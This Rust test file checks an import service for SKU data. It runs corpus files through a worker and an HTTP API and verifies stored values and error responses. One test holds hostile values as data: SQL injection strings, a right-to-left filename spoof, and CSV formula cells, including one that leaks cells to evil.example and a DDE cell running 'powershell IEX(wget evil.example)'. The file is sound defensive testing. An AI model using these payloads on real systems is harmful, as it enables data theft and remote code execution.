                        Some(Value::String(s)) => s.clone(),
                        Some(Value::Null) | None => String::new(),
                        Some(v) => v.to_string(),
                    })
                    .collect();
                csv.push_str(&csv_line(&row));
            }
            run(Format::Csv, csv.into_bytes(), &mut failures);
        }
        failures
    });
    let report: Vec<String> = failures
        .iter()
        .map(|(kind, (n, kept))| {
            format!(
                "{n} inputs fail with {kind:?}, for instance:\n  {}",
                kept.join("\n  ")
            )
        })
        .collect();
    assert!(
        failures.is_empty(),
        "fuzz failures (copy a minimal one into tests/corpus/regressions/):\n{}",
        report.join("\n")
    );
}

#[test]
fn regression_files_and_the_corpus_replay_cleanly() {
    let mut files: Vec<PathBuf> = Vec::new();
    for sub in ["regressions", "json", "csv"] {
        for entry in std::fs::read_dir(corpus_dir().join(sub)).unwrap() {
            let path = entry.unwrap().path();
            if matches!(
                path.extension().and_then(|e| e.to_str()),
                Some("json" | "csv")
            ) {
                files.push(path);
            }
        }
    }
    files.sort();
    assert!(files.len() >= CASES.len(), "the corpus is missing files");
    let current = Arc::new(Mutex::new((Format::Json, Vec::new())));
    let shared = current.clone();
    let failures = within(Duration::from_secs(20), current, move || {
        let mut failures = Vec::new();
        for path in files {
            let format = if path.extension().unwrap() == "csv" {
                Format::Csv
            } else {
                Format::Json
            };
            let bytes = std::fs::read(&path).unwrap();
            *shared.lock().unwrap() = (format, bytes.clone());
            if let Err((kind, why)) = exercise_caught(format, &bytes) {
                failures.push(format!("{}: {kind:?}: {why}", path.display()));
            }
        }
        failures
    });
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

// ---------------------------------------------------------------------------------------------
// Through the worker
// ---------------------------------------------------------------------------------------------

fn tenant_for(name: &str) -> Tenant {
    Tenant {
        organization_id: format!("corpus:{name}"),
        mode: Mode::Test,
    }
}

/// Creates and announces an import of raw bytes (possibly not UTF-8, which `ImportSpec`
/// cannot carry), as the test helpers do.
async fn submit_bytes(env: &TestEnv, tenant: &Tenant, format: Format, bytes: &[u8]) -> Import {
    if let Ok(text) = std::str::from_utf8(bytes) {
        let spec = match format {
            Format::Csv => ImportSpec::csv("skus", text),
            Format::Json => ImportSpec {
                inputs: Inputs::RawJson(text),
                ..ImportSpec::json("skus", &Value::Null)
            },
        };
        let spec = ImportSpec {
            tenant: Some(tenant),
            ..spec.skip_errors()
        };
        return env.submit(spec).await;
    }
    let inputs_size = count_inputs(format, b',', bytes).unwrap_or(0) as i64;
    let mut client = env.pool.get().await.unwrap();
    let tx = client.transaction().await.unwrap();
    let import = imports::create_import(
        &*tx,
        &NewImport {
            tenant: tenant.clone(),
            resource_type: "skus".into(),
            format,
            csv_delimiter: (format == Format::Csv).then_some(b','),
            parent_resource_id: None,
            inputs_size,
            skip_errors: true,
            dry_run: false,
            reference: None,
            reference_origin: None,
            metadata: json!({}),
            trace_context: serde_json::json!({}),
        },
        bytes,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    env.publish(&import.id).await;
    import
}

/// The stored SKUs of a tenant: code -> (name, description).
async fn stored_skus(env: &TestEnv, tenant: &Tenant) -> BTreeMap<String, (String, Option<String>)> {
    let client = env.pool.get().await.unwrap();
    client
        .query(
            "SELECT code, name, description FROM skus WHERE organization_id = $1 AND mode = $2",
            &[&tenant.organization_id, &tenant.mode.as_str()],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| (r.get(0), (r.get(1), r.get(2))))
        .collect()
}

/// The bookkeeping every final import must satisfy; returns what is wrong.
async fn invariants(env: &TestEnv, import: &Import, tenant: &Tenant) -> Vec<String> {
    let mut problems = Vec::new();
    let client = env.pool.get().await.unwrap();
    let row = client
        .query_one(
            "SELECT cursor,
                    (SELECT count(DISTINCT position) FROM import_log_entries
                      WHERE import_id = $1 AND severity = 'error'
                        AND NOT (key = 'unknown' AND attribute IN ('inputs', 'import'))),
                    (SELECT count(*) FROM import_log_entries WHERE import_id = $1 AND severity = 'warning'),
                    (SELECT count(*) FROM skus WHERE organization_id = $2 AND mode = $3)
             FROM imports WHERE id = $1",
            &[&import.id, &tenant.organization_id, &tenant.mode.as_str()],
        )
        .await
        .unwrap();
    let (cursor, errored, warned, rows): (i64, i64, i64, i64) =
        (row.get(0), row.get(1), row.get(2), row.get(3));
    if import.processed_count + import.errors_count != cursor {
        problems.push(format!(
            "processed {} + errors {} != {cursor} inputs handled",
            import.processed_count, import.errors_count
        ));
    }
    if import.status == Status::Completed && cursor != import.inputs_size {
        problems.push(format!(
            "completed after {cursor} of {} inputs",
            import.inputs_size
        ));
    }
    if rows != import.processed_count {
        problems.push(format!(
            "{rows} rows in skus but processed_count {}",
            import.processed_count
        ));
    }
    if errored != import.errors_count {
        problems.push(format!(
            "errors_count {} but {errored} inputs have errors in the log",
            import.errors_count
        ));
    }
    if warned != import.warnings_count {
        problems.push(format!(
            "warnings_count {} but {warned} warnings in the log",
            import.warnings_count
        ));
    }
    problems
}

/// Every (key, attribute, message) of an errors_log, but the file-level entry.
fn error_entries(import: &Import) -> Vec<(String, String, String)> {
    let mut out = Vec::new();
    for (key, attrs) in &import.errors_log.0 {
        for (attribute, messages) in attrs {
            if key == "unknown" && attribute == "inputs" {
                continue;
            }
            for m in messages {
                out.push((key.clone(), attribute.clone(), m.clone()));
            }
        }
    }
    out
}

/// The text columns each valid input of a file gives, as the file says them:
/// code -> (name, description).
fn given_skus(format: Format, bytes: &[u8]) -> BTreeMap<String, (Option<String>, Option<String>)> {
    let mut out = BTreeMap::new();
    let _ = read_inputs(format, b',', bytes, 0, |input| {
        let get = |name: &str| -> Option<String> {
            match &input.record {
                RawRecord::Json(m) => m.get(name).and_then(|v| v.as_str()).map(str::to_owned),
                RawRecord::Csv { headers, values } => headers
                    .iter()
                    .position(|h| h == name)
                    .map(|i| values[i].clone())
                    .filter(|v| !v.is_empty()),
                RawRecord::Malformed(_) => None,
            }
        };
        if let Some(code) = get("code") {
            out.insert(code, (get("name"), get("description")));
        }
        true
    });
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_corpus_file_through_the_worker_ends_as_documented() {
    let env = TestEnv::new().await;
    let worker = env.spawn_worker(env.worker_config(4, 2, 10));
    let mut submitted = Vec::new();
    for case in CASES {
        let tenant = tenant_for(case.path);
        let bytes = read_corpus(case.path);
        let import = submit_bytes(&env, &tenant, format_of(case.path), &bytes).await;
        submitted.push((case, tenant, bytes, import.id));
    }
    let mut problems = Vec::new();
    for (case, tenant, bytes, id) in &submitted {
        let import = env.wait_final(id, Duration::from_secs(30)).await;
        let mut p = invariants(&env, &import, tenant).await;
        match &case.outcome {
            Outcome::Unreadable(prefix) => {
                if import.status != Status::Interrupted {
                    p.push(format!("status {:?}, not interrupted", import.status));
                }
                let why = import
                    .errors_log
                    .0
                    .get("unknown")
                    .and_then(|a| a.get("inputs"))
                    .cloned()
                    .unwrap_or_default();
                if why.len() != 1 || !why[0].starts_with(prefix) {
                    p.push(format!(
                        "errors_log[unknown][inputs] = {why:?}, expected {prefix:?}..."
                    ));
                }
            }
            Outcome::Read {
                inputs,
                processed,
                errors,
                db_errors,
                warnings,
            } => {
                if import.status != Status::Completed {
                    p.push(format!(
                        "status {:?}, not completed: {:?}",
                        import.status, import.errors_log
                    ));
                }
                if import.inputs_size != *inputs as i64 || import.processed_count != *processed {
                    p.push(format!(
                        "inputs_size {} processed {}, expected {inputs} and {processed}",
                        import.inputs_size, import.processed_count
                    ));
                }
                let expected: Vec<ErrorEntry> =
                    errors.iter().chain(db_errors.iter()).copied().collect();
                p.extend(match_entries(&error_entries(&import), &expected));
                let expected_warnings: usize = warnings.len();
                if import.warnings_count != expected_warnings as i64 {
                    p.push(format!("warnings {:?}", import.warnings_log));
                }
                for (key, prefix) in *warnings {
                    let found = import
                        .warnings_log
                        .0
                        .get(*key)
                        .map(|ws| ws.iter().any(|w| w.starts_with(prefix)))
                        .unwrap_or(false);
                    if !found {
                        p.push(format!("no warning {key:?}: {prefix:?}"));
                    }
                }
                // What is stored is what the file says, byte for byte.
                let given = given_skus(format_of(case.path), bytes);
                for (code, (name, description)) in stored_skus(&env, tenant).await {
                    match given.get(&code) {
                        Some((n, d)) if n.as_ref() == Some(&name) && *d == description => {}
                        other => p.push(format!(
                            "stored {code:?} = ({name:?}, {description:?}), the file says {other:?}"
                        )),
                    }
                }
            }
        }
        problems.extend(p.into_iter().map(|m| format!("{}: {m}", case.path)));
    }
    worker.stop().await;
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_values_are_stored_verbatim_and_the_tables_survive() {
    let env = TestEnv::new().await;
    let worker = env.spawn_worker(env.worker_config(4, 3, 10));
    let files = [
        "json/sql_injection.json",
        "csv/sql_injection.csv",
        "csv/formula_cells.csv",
        "json/unicode_normalization.json",
        "csv/unicode_normalization.csv",
        "json/emoji_rtl.json",
        "csv/crlf_bom.csv",
        "csv/stray_quote.csv",
        "csv/unbalanced_quotes_swallow.csv",
    ];
    let mut ids = Vec::new();
    for f in files {
        let import = submit_bytes(&env, &tenant_for(f), format_of(f), &read_corpus(f)).await;
        ids.push(import.id);
    }
    for id in &ids {
        let import = env.wait_final(id, Duration::from_secs(30)).await;
        assert_eq!(import.status, Status::Completed, "{import:?}");
    }
    let stored = |f: &'static str| {
        let env = &env;
        async move { stored_skus(env, &tenant_for(f)).await }
    };

    // SQL-looking strings are data: stored as given, and every table is still there.
    let sql = stored("json/sql_injection.json").await;
    assert_eq!(sql.len(), 5);
    assert_eq!(
        sql["'; DROP TABLE skus; --"].0,
        "Robert'); DROP TABLE skus;--"
    );
    assert_eq!(
        sql["1' OR '1'='1"].0,
        "' UNION SELECT id, organization_id FROM imports --"
    );
    assert_eq!(sql["$1"].0, "$$; DROP TABLE imports; $$");
    assert_eq!(sql["\\'; --"].0, "/* comment */ SELECT pg_sleep(10); --");
    assert_eq!(
        sql["SQL5"].1.as_deref(),
        Some("'; TRUNCATE skus CASCADE; --")
    );
    let metadata: Value = env
        .query("SELECT metadata FROM skus WHERE code = 'SQL5'")
        .await[0]
        .get(0);
    assert_eq!(metadata, json!({"'); DROP TABLE skus; --": "x"}));
    let sql_csv = stored("csv/sql_injection.csv").await;
    assert_eq!(
        sql_csv["'; DROP TABLE skus; --"].0,
        "Robert'); DROP TABLE skus;--"
    );
    assert_eq!(
        sql_csv["CSQL3"],
        (
            "$$; DROP TABLE imports; $$".to_string(),
            Some("'; TRUNCATE skus CASCADE; --".to_string())
        )
    );
    for table in [
        "skus",
        "imports",
        "import_inputs",
        "import_log_entries",
        "shipping_categories",
    ] {
        let exists: bool = env
            .query(&format!("SELECT to_regclass('public.{table}') IS NOT NULL"))
            .await[0]
            .get(0);
        assert!(exists, "table {table} is gone");
    }
    // Every input of the nine files is a record: 5 + 3 + 6 + 2 + 2 + 8 + 2 + 2 + 1.
    assert_eq!(env.count("skus").await, 31);

    // Formula-looking cells are stored verbatim (neutralising them is the job of the
    // failed-inputs report, which does not exist yet).
    let fx = stored("csv/formula_cells.csv").await;
    let expected = [
        (
            "FX1",
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")",
            "=1+2",
        ),
        ("FX2", "+cmd|' /C calc'!A0", "+1"),
        ("FX3", "-1+1", "-2+3"),
        ("FX4", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1"),
        (
            "FX5",
            "=cmd|' /C powershell IEX(wget evil.example)'!A0",
            "\t=1+1",
        ),
        ("FX6", "\r=2+2", ";=3+3"),
    ];
    for (code, name, description) in expected {
        assert_eq!(
            fx[code],
            (name.to_string(), Some(description.to_string())),
            "{code}"
        );
    }

    // NFC "café" and NFD "cafe" + U+0301 look the same and are two codes, kept byte-exact.
    for f in [
        "json/unicode_normalization.json",
        "csv/unicode_normalization.csv",
    ] {
        let rows = env
            .query(&format!(
                "SELECT code, convert_to(code, 'UTF8') FROM skus WHERE organization_id = 'corpus:{f}' ORDER BY code"
            ))
            .await;
        let mut codes: Vec<(String, Vec<u8>)> = rows.iter().map(|r| (r.get(0), r.get(1))).collect();
        codes.sort();
        assert_eq!(
            codes,
            vec![
                ("cafe\u{301}".to_string(), b"cafe\xcc\x81".to_vec()),
                ("caf\u{e9}".to_string(), b"caf\xc3\xa9".to_vec()),
            ],
            "{f}"
        );
    }

    // Emoji, ZWJ sequences, right-to-left text and bidi overrides: as given.
    let emoji = stored("json/emoji_rtl.json").await;
    for code in [
        "\u{1f455}-RED",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{1f1ee}\u{1f1f9}-FLAG",
        "\u{5de}\u{5d5}\u{5e6}\u{5e8}-1",
        "\u{645}\u{646}\u{62a}\u{62c}-2",
        "\u{202e}RLO-3",
        "ZW\u{200b}\u{200c}\u{200d}J",
        "Z\u{335}\u{321}\u{327}A\u{336}L\u{338}GO",
    ] {
        assert!(
            emoji.contains_key(code),
            "{code:?} not in {:?}",
            emoji.keys()
        );
    }
    assert_eq!(
        emoji["\u{202e}RLO-3"].0,
        "right-to-left override \u{202e}gnp.exe"
    );

    // BOM and CRLF: the BOM is not part of the first header, CRLF inside quotes is kept.
    let crlf = stored("csv/crlf_bom.csv").await;
    assert_eq!(
        crlf["CB1"],
        (
            "Windows line ends".to_string(),
            Some("two\r\nlines".to_string())
        )
    );
    assert_eq!(crlf["CB2"].0, "Quoted, comma");

    // Stray quotes inside unquoted cells, as the CSV reader understands them.
    let stray = stored("csv/stray_quote.csv").await;
    assert_eq!(stray["SQ1"].0, "ab\"c\"d");
    assert_eq!(stray["SQ2"].0, "oktrailing");

    // Known gap (see the README): a quote left open swallows the rest of the file into one
    // cell, silently. This pins today's behaviour so that a fix shows up here.
    let swallowed = stored("csv/unbalanced_quotes_swallow.csv").await;
    assert_eq!(
        swallowed["US1"].0,
        "never closed\nUS2,swallowed by the open quote\n"
    );
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn generated_giants_through_the_worker() {
    let env = TestEnv::new().await;
    let worker = env.spawn_worker(env.worker_config(3, 1, 10));
    let big = big_cell();
    let deep_file = deep_json(DEEP);
    let deep_inside = format!(
        r#"[{{"code":"D1","name":"ok","do_not_ship":true}},{{"code":"D2","name":"deep","do_not_ship":true,"metadata":{{"a":{}}}}}]"#,
        deep_json(DEEP)
    );
    let deep_csv = format!(
        "code,name,do_not_ship,metadata\nD3,deep,true,\"{}\"\nD4,shallow,true,\"{}\"\n",
        "{\"\"a\"\":".repeat(DEEP) + "1" + &"}".repeat(DEEP),
        "{\"\"a\"\":".repeat(100) + "1" + &"}".repeat(100),
    );
    let big_json = serde_json::to_string(&json!([
        {"code": "BIG1", "name": big, "do_not_ship": true},
        {"code": "BIG1-AFTER", "name": "after the big one", "do_not_ship": true},
    ]))
    .unwrap();
    let big_csv = big_csv(&big);
    let cases: Vec<(&str, Format, &str)> = vec![
        ("deep-file", Format::Json, &deep_file),
        ("deep-inside", Format::Json, &deep_inside),
        ("deep-csv", Format::Csv, &deep_csv),
        ("big-json", Format::Json, &big_json),
        ("big-csv", Format::Csv, &big_csv),
    ];
    let mut ids = Vec::new();
    for (name, format, text) in &cases {
        let import = submit_bytes(&env, &tenant_for(name), *format, text.as_bytes()).await;
        ids.push(import.id);
    }
    let mut problems = Vec::new();
    let mut finals = BTreeMap::new();
    for ((name, _, _), id) in cases.iter().zip(&ids) {
        let import = env.wait_final(id, Duration::from_secs(45)).await;
        for p in invariants(&env, &import, &tenant_for(name)).await {
            problems.push(format!("{name}: {p}"));
        }
        finals.insert(*name, import);
    }
    for name in ["deep-file", "deep-inside"] {
        let import = &finals[name];
        assert_eq!(import.status, Status::Interrupted, "{name}");
        let why = &import.errors_log.0["unknown"]["inputs"];
        assert!(
            why[0].contains("recursion limit exceeded"),
            "{name}: {why:?}"
        );
    }
    // Batches of 1: the input before the deep one was written before the file stopped.
    assert_eq!(finals["deep-inside"].processed_count, 1);

    let deep_csv = &finals["deep-csv"];
    assert_eq!(
        (
            deep_csv.status,
            deep_csv.processed_count,
            deep_csv.errors_count
        ),
        (Status::Completed, 1, 1)
    );
    assert!(deep_csv.errors_log.0["D3"]["metadata"][0].ends_with("is not a JSON object"));
    let depth: i32 = env
        .query("SELECT length(metadata::text) - length(replace(metadata::text, '{', '')) FROM skus WHERE code = 'D4'")
        .await[0]
        .get(0);
    assert_eq!(depth, 100);

    for name in ["big-json", "big-csv"] {
        let import = &finals[name];
        assert_eq!(
            (import.status, import.processed_count, import.errors_count),
            (Status::Completed, 2, 0),
            "{name}: {:?}",
            import.errors_log
        );
    }
    let rows = env
        .query("SELECT code, name, description FROM skus WHERE code IN ('BIG1', 'BIG2')")
        .await;
    for row in rows {
        let code: String = row.get(0);
        let stored: String = if code == "BIG1" {
            row.get(1)
        } else {
            row.get::<_, Option<String>>(2).unwrap()
        };
        assert_eq!(stored.len(), BIG, "{code}");
        assert!(
            stored == big,
            "{code}: the big cell is not stored byte-exact"
        );
    }
    worker.stop().await;
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}

/// Values that reach a database lookup, a unique index or a log message: a NUL byte (which
/// Postgres refuses in text) in a code, an id, a relationship key, an attribute name or a
/// message quoting the value, and a code too large for the unique index. Each must stay that
/// input's error; none may hold the import up (retries, hand-backs, "given up").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn values_postgres_refuses_in_keys_and_logs_stay_per_input_errors() {
    let env = TestEnv::new().await;
    let cases = poison_cases();
    let worker = env.spawn_worker(env.worker_config(cases.len(), 10, 2));
    let mut ids = Vec::new();
    for case in &cases {
        let import = submit_bytes(&env, &tenant_for(case.name), case.format, &case.bytes).await;
        ids.push(import.id);
    }
    // A small import is done in well under a second; give them all 20 s together
    // (CORPUS_POISON_WAIT_SECS waits longer, to watch what becomes of them).
    let wait = std::env::var("CORPUS_POISON_WAIT_SECS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(20);
    let deadline = Instant::now() + Duration::from_secs(wait);
    let mut finals: Vec<Option<Import>> = vec![None; cases.len()];
    while Instant::now() < deadline && finals.iter().any(Option::is_none) {
        for (slot, id) in finals.iter_mut().zip(&ids) {
            if slot.is_none() {
                let import = env.import(id).await;
                if import.status.is_final() {
                    *slot = Some(import);
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let mut problems = Vec::new();
    for ((case, id), done) in cases.iter().zip(&ids).zip(&finals) {
        let Some(import) = done else {
            let import = env.import(id).await;
            let row = &env
                .query(&format!(
                    "SELECT attempts, failure_reason FROM imports WHERE id = '{id}'"
                ))
                .await[0];
            let (attempts, reason): (i32, Option<String>) = (row.get(0), row.get(1));
            problems.push(format!(
                "{}: still {:?} after {wait} s ({} processed, {attempts} claims, reason {reason:?})",
                case.name, import.status, import.processed_count
            ));
            continue;
        };
        let mut p = invariants(&env, import, &tenant_for(case.name)).await;
        let got = (
            import.status,
            import.inputs_size,
            import.processed_count,
            import.errors_count,
            import.warnings_count,
        );
        let want = (
            Status::Completed,
            case.inputs as i64,
            case.processed,
            case.errors,
            case.warnings,
        );
        if got != want {
            p.push(format!(
                "(status, inputs, processed, errors, warnings) = {got:?}, expected {want:?}; errors_log {:?}",
                import.errors_log.0.keys().map(|k| k.chars().take(40).collect::<String>()).collect::<Vec<_>>()
            ));
        }
        problems.extend(p.into_iter().map(|m| format!("{}: {m}", case.name)));
    }
    drop(worker);
    assert!(problems.is_empty(), "\n{}", problems.join("\n"));
}

// ---------------------------------------------------------------------------------------------
// Through the HTTP API
// ---------------------------------------------------------------------------------------------

struct Api {
    http: Client,
    base: String,
    token: String,
}

/// An answer: status, Content-Type, body (JSON when it parses).
struct Answer {
    status: StatusCode,
    content_type: String,
    body: Value,
}

impl Api {
    async fn send(
        &self,
        method: Method,
        path: &str,
        content_type: Option<&str>,
        body: Option<Vec<u8>>,
    ) -> Answer {
        let mut req = self
            .http
            .request(method, format!("{}{path}", self.base))
            .bearer_auth(&self.token);
        if let Some(ct) = content_type {
            req = req.header("content-type", ct);
        }
        if let Some(b) = body {
            req = req.body(b);
        }
        let resp = req.send().await.unwrap_or_else(|e| panic!("{path}: {e}"));
        let status = resp.status();
        let content_type = resp
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
            .to_owned();
        let bytes = resp.bytes().await.unwrap_or_default();
        let body = serde_json::from_slice(&bytes)
            .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into_owned()));
        Answer {
            status,
            content_type,
            body,
        }
    }

    async fn post(&self, body: Vec<u8>) -> Answer {
        self.send(Method::POST, "/api/imports", Some(JSONAPI), Some(body))
            .await
    }

    async fn create(&self, attributes: Value) -> Answer {
        self.post(
            serde_json::to_vec(&json!({"data": {"type": "imports", "attributes": attributes}}))
                .unwrap(),
        )
        .await
    }
}

async fn api_for(env: &TestEnv, max_body_bytes: usize) -> (Api, imports_tests::InProcessApi) {
    let mut config = env.api_config();
    config.max_active = 1_000;
    config.max_body_bytes = max_body_bytes;
    let server = env.spawn_api(config).await;
    let token = env.token("acme", Mode::Test).await;
    (
        Api {
            http: Client::new(),
            base: server.base_url.clone(),
            token,
        },
        server,
    )
}

/// What is wrong with an answer that must be a JSON:API 4xx among `allowed`.
fn not_a_clear_4xx(name: &str, a: &Answer, allowed: &[u16]) -> Option<String> {
    let status = a.status.as_u16();
    let errors = a.body["errors"].as_array();
    let ok = allowed.contains(&status)
        && a.content_type == JSONAPI
        && errors.is_some_and(|e| {
            !e.is_empty()
                && e[0]["status"].as_str() == Some(status.to_string().as_str())
                && e[0]["detail"].as_str().is_some_and(|d| !d.is_empty())
        });
    (!ok).then(|| {
        let body = a.body.to_string();
        format!(
            "{name}: {status} {} {}, expected one of {allowed:?} with a JSON:API errors array",
            a.content_type,
            body.chars().take(300).collect::<String>()
        )
    })
}

/// (what, method, path, body, the statuses allowed).
type Request = (String, Method, String, Option<Vec<u8>>, &'static [u16]);

fn document(attributes: Value) -> Vec<u8> {
    serde_json::to_vec(&json!({"data": {"type": "imports", "attributes": attributes}})).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn broken_bodies_get_a_clear_4xx_never_a_5xx() {
    let env = TestEnv::new().await;
    let (api, server) = api_for(&env, 8 * 1024 * 1024).await;
    let skus_doc = |inputs: &str| {
        format!(r#"{{"data":{{"type":"imports","attributes":{{"resource_type":"skus","inputs":{inputs}}}}}}}"#)
            .into_bytes()
    };
    let csv_doc =
        |text: &str| document(json!({"resource_type": "skus", "format": "csv", "inputs": text}));
    let text = |path: &str| String::from_utf8(read_corpus(path)).unwrap();

    let mut bodies: Vec<(String, Vec<u8>, &[u16])> = vec![
        ("not JSON".into(), b"{not json".to_vec(), &[400]),
        ("empty body".into(), Vec::new(), &[400]),
        ("truncated".into(), br#"{"data":{"type":"imports","attributes":{"resource_type":"skus","inputs":[{"code":"A""#.to_vec(), &[400]),
        ("trailing garbage".into(), [&document(json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}]}))[..], b" xyz"].concat(), &[400]),
        ("invalid UTF-8 in an input".into(), [&skus_doc("[{\"code\":\"A\",\"name\":\"caf")[..], b"\xe9\"}]"].concat(), &[400]),
        ("raw invalid UTF-8 bytes".into(), [&b"{\"data\":\xff\xfe"[..], b"}"].concat(), &[400]),
        ("BOM before the document".into(), [&b"\xef\xbb\xbf"[..], &document(json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}]}))].concat(), &[400]),
        ("lone surrogate".into(), skus_doc(r#"[{"code":"\ud800","name":"a"}]"#), &[400]),
        (format!("{DEEP} nested arrays as the body"), deep_json(DEEP).into_bytes(), &[400, 422]),
        (format!("{DEEP} nested arrays in an input"), skus_doc(&format!(r#"[{{"code":"A","name":"a","metadata":{{"x":{}}}}}]"#, deep_json(DEEP))), &[400]),
        (format!("{DEEP} nested arrays as inputs"), skus_doc(&deep_json(DEEP)), &[400]),
        ("a number out of range".into(), skus_doc(r#"[{"code":"A","name":"a","weight":1e400}]"#), &[400]),
        ("an array as the document".into(), b"[1,2,3]".to_vec(), &[400, 422]),
        ("a string as the document".into(), b"\"imports\"".to_vec(), &[400, 422]),
        ("null as the document".into(), b"null".to_vec(), &[400, 422]),
        ("data is an array".into(), br#"{"data":[{"type":"imports"}]}"#.to_vec(), &[422]),
        ("data without type".into(), br#"{"data":{"attributes":{}}}"#.to_vec(), &[422]),
        ("another type".into(), br#"{"data":{"type":"skus","attributes":{}}}"#.to_vec(), &[409]),
        ("SQL as the type".into(), br#"{"data":{"type":"imports'; DROP TABLE imports; --","attributes":{}}}"#.to_vec(), &[409]),
        ("attributes is a string".into(), br#"{"data":{"type":"imports","attributes":"x"}}"#.to_vec(), &[422]),
        ("no inputs".into(), document(json!({"resource_type": "skus"})), &[422]),
        ("inputs is an object".into(), skus_doc(r#"{"code":"A","name":"a"}"#), &[422]),
        ("inputs is a number".into(), skus_doc("99999999999999999999999"), &[422]),
        ("empty inputs".into(), skus_doc("[]"), &[422]),
        ("JSON inputs as a string".into(), skus_doc(r#""[{\"code\":\"A\"}]""#), &[422]),
        ("CSV inputs as an array".into(), document(json!({"resource_type": "skus", "format": "csv", "inputs": [{"code": "A"}]})), &[422]),
        ("an unknown format".into(), document(json!({"resource_type": "skus", "format": "xml", "inputs": [{"code": "A"}]})), &[422]),
        ("SQL as the resource type".into(), document(json!({"resource_type": "skus; DROP TABLE skus; --", "inputs": [{"code": "A"}]})), &[422]),
        ("a NUL in the resource type".into(), document(json!({"resource_type": "skus\u{0}", "inputs": [{"code": "A"}]})), &[422]),
        ("an unknown attribute".into(), document(json!({"resource_type": "skus", "inputs": [{"code": "A"}], "'; DROP TABLE imports; --": 1})), &[422]),
        ("a reference over 1024 characters".into(), document(json!({"resource_type": "skus", "inputs": [{"code": "A"}], "reference": "r".repeat(1025)})), &[422]),
        ("skip_errors as a string".into(), document(json!({"resource_type": "skus", "inputs": [{"code": "A"}], "skip_errors": "yes"})), &[422]),
        ("metadata as an array".into(), document(json!({"resource_type": "skus", "inputs": [{"code": "A"}], "metadata": [1]})), &[422]),
        ("CSV: empty text".into(), csv_doc(""), &[422]),
        ("CSV: header only".into(), csv_doc(&text("csv/header_only.csv")), &[422]),
        ("CSV: a blank header column".into(), csv_doc(&text("csv/blank_header_column.csv")), &[422]),
        ("CSV: a header named twice".into(), csv_doc(&text("csv/duplicate_header.csv")), &[422]),
        ("more inputs than the limit".into(), document(json!({"resource_type": "skus", "inputs": imports_tests::skus(10_001)})), &[422]),
        ("a 10 MB cell over the 8 MiB limit".into(), document(json!({"resource_type": "skus", "inputs": [{"code": "BIG", "name": "x".repeat(TEN_MB)}]})), &[413]),
    ];
    // Values Postgres refuses in text, in the import's own attributes.
    for (name, attributes) in [
        (
            "a NUL in reference",
            json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}], "reference": "ref\u{0}"}),
        ),
        (
            "a NUL in reference_origin",
            json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}], "reference_origin": "\u{0}"}),
        ),
        (
            "a NUL in a metadata value",
            json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}], "metadata": {"k": "\u{0}"}}),
        ),
        (
            "a NUL in a metadata key",
            json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}], "metadata": {"\u{0}": 1}}),
        ),
        (
            "a NUL in parent_resource_id",
            json!({"resource_type": "prices", "parent_resource_id": "pl\u{0}", "inputs": [{"sku_code": "A", "amount_cents": 1}]}),
        ),
    ] {
        bodies.push((name.into(), document(attributes), &[422]));
    }

    let mut problems = Vec::new();
    for (name, body, allowed) in &bodies {
        let started = Instant::now();
        let answer = api.post(body.clone()).await;
        if let Some(p) = not_a_clear_4xx(name, &answer, allowed) {
            problems.push(p);
        }
        if started.elapsed() > Duration::from_secs(10) {
            problems.push(format!("{name}: answered after {:?}", started.elapsed()));
        }
    }

    // Content types.
    let valid = document(json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}]}));
    for (name, ct) in [
        ("no Content-Type", None),
        ("text/csv", Some("text/csv")),
        ("multipart", Some("multipart/form-data; boundary=x")),
        ("garbage Content-Type", Some(";;;=\"")),
    ] {
        let a = api
            .send(Method::POST, "/api/imports", ct, Some(valid.clone()))
            .await;
        if let Some(p) = not_a_clear_4xx(name, &a, &[415]) {
            problems.push(p);
        }
    }

    // Hostile ids and query parameters on the other routes.
    let created = api
        .create(json!({"resource_type": "skus", "inputs": [{"code": "A", "name": "a"}]}))
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let id = created.body["data"]["id"].as_str().unwrap().to_owned();
    let patch = |attributes: Value| {
        serde_json::to_vec(
            &json!({"data": {"type": "imports", "id": id, "attributes": attributes}}),
        )
        .unwrap()
    };
    let requests: Vec<Request> = vec![
        (
            "GET a NUL id".into(),
            Method::GET,
            "/api/imports/%00".into(),
            None,
            &[404],
        ),
        (
            "GET an id with SQL".into(),
            Method::GET,
            "/api/imports/'%20OR%20'1'='1".into(),
            None,
            &[404],
        ),
        (
            "GET an id that is not UTF-8".into(),
            Method::GET,
            "/api/imports/%FF%FE".into(),
            None,
            &[400, 404],
        ),
        (
            "GET the events of a NUL id".into(),
            Method::GET,
            "/api/imports/%00/events".into(),
            None,
            &[404],
        ),
        (
            "DELETE a NUL id".into(),
            Method::DELETE,
            "/api/imports/%00".into(),
            None,
            &[404],
        ),
        (
            "attachment of a NUL id".into(),
            Method::GET,
            "/api/imports/%00/attachment?expires=1&signature=%00".into(),
            None,
            &[403, 404],
        ),
        (
            "filter on a NUL".into(),
            Method::GET,
            "/api/imports?filter[q][reference_eq]=%00".into(),
            None,
            &[200, 400],
        ),
        (
